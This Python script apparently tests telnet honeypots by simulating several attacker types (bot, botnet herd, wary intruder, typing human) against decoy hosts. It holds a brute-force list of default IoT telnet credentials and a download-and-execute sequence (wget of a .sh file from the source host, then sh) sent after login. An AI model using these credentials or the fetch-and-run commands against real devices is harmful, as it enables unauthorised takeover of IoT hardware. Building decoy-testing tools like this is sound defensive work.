"""Attackers of several kinds at a decoy's telnet: steering.py PORT KIND, tasks on standard input.

A task is a line SOURCE DECOY; all run at once.  Prints SOURCE and what greeted it, a line each.
"""
import random, re, socket, sys, threading, time

port, kind = int(sys.argv[1]), sys.argv[2]
tasks = [line.split() for line in sys.stdin if line.strip()]
printing = threading.Lock()


class Visit:
    def __init__(self, source, decoy):
        self.socket = socket.create_connection((decoy, port), 15, (source, 0))
        self.socket.settimeout(15)
        self.greeting = self.wait()

    def wait(self):
        seen = b""
        while not re.search(rb"(ogin: ?|assword: ?|[#>$] ?)$", seen):
            try:
                more = self.socket.recv(65536)
            except TimeoutError:
                break
            if not more:
                break
            seen += more
        return re.sub(rb"\xff[\xfb-\xfe].", b"", seen).decode("latin-1")

    def say(self, line):
        self.socket.sendall(line.encode() + b"\r\n")
        return self.wait()

    def log_in(self, user, secret):
        self.say(user)
        return re.search(r"[#>$] ?$", self.say(secret)) is not None

    def close(self):
        self.socket.close()


def enter(source, decoy):
    """A visit behind the log-in, by whichever pair the device takes."""
    for user, secret in (("root", "888888"), ("root", "123456"), ("root", "12345"), ("root", "root"),
                         ("root", "vizxv"), ("root", "xc3511"), ("root", "admin"), ("admin", "admin")):
        visit = Visit(source, decoy)
        if visit.log_in(user, secret):
            return visit
        visit.close()
    raise SystemExit(f"{decoy} lets nobody in")


def bot(source, decoy):
    """Three pairs of the published list; on a recorder it stays and works."""
    greeting = None
    for secret in ("xc3511", "vizxv", "xmhdipc"):
        visit = Visit(source, decoy)
        greeting = greeting or visit.greeting
        if visit.log_in("root", secret) and "LocalHost" in greeting:
            letters = random.Random(source)
            for _ in range(letters.randint(2, 5)):  # no two say the same: they are no campaign
                visit.say("echo " + "".join(letters.choices("abcdefgh", k=8)))
        visit.close()
        if "LocalHost" in greeting:
            break
    return greeting


def wary(source, decoy):
    visit = enter(source, decoy)
    visit.say("ls /home/richard")
    visit.close()
    return visit.greeting


def herd(source, decoy):
    visit = enter(source, decoy)
    for line in ("cd /var/tmp", f"wget http://{source}/{random.randint(1, 9)}.sh", "sh ./a.sh"):
        visit.say(line)
    visit.close()
    return visit.greeting


def human(source, decoy):
    visit = enter(source, decoy)
    rhythm = random.Random(source)
    for line in ("ls\r", "ca\x7f\x7fls /tmp\r"):
        time.sleep(rhythm.uniform(0.5, 1.2))
        for key in line:
            time.sleep(rhythm.uniform(0.05, 0.2))
            visit.socket.sendall(key.encode())
    visit.wait()
    visit.close()
    return visit.greeting


def look(source, decoy):
    visit = Visit(source, decoy)
    visit.close()
    return visit.greeting


def run(source, decoy):
    try:
        greeting = globals()[kind](source, decoy)
    except ConnectionError:
        greeting = "(none)"  # a device without telnet
    with printing:
        print(source, " ".join(greeting.split()), flush=True)


threads = [threading.Thread(target=run, args=task) for task in tasks]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
